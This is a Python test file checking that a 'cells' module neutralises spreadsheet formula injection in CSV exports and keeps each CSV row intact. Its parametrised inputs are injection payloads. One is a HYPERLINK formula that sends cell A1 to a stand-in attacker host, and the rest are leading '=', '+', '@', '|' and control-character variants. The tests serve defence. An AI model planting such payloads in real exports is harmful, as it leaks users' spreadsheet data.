"""No cell of a file is a formula, and none breaks its row."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fund import cells


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1-207",
        "-2+3",
        "@SUM(1)",
        "|calc",
        "%0A=1",
        "＝1+1",
        "−1",
        "  =1",
        "\t=1",
        "\r\n=1",
        "\x00=1",
        "\x1f@A1",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert cells.safe(text).startswith("'")


@pytest.mark.parametrize("text", ["", "KX7-204", "1200.50", "2026-05-01", "Motel “Pine”, Bath"])
def test_plain_cells_stay_as_they_are(text: str) -> None:
    assert cells.safe(text) == text


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_words_make_one_row_of_as_many_cells(values: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(cells.line(values), newline=""), strict=True)
    assert row == [cells.safe(value) for value in values]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)
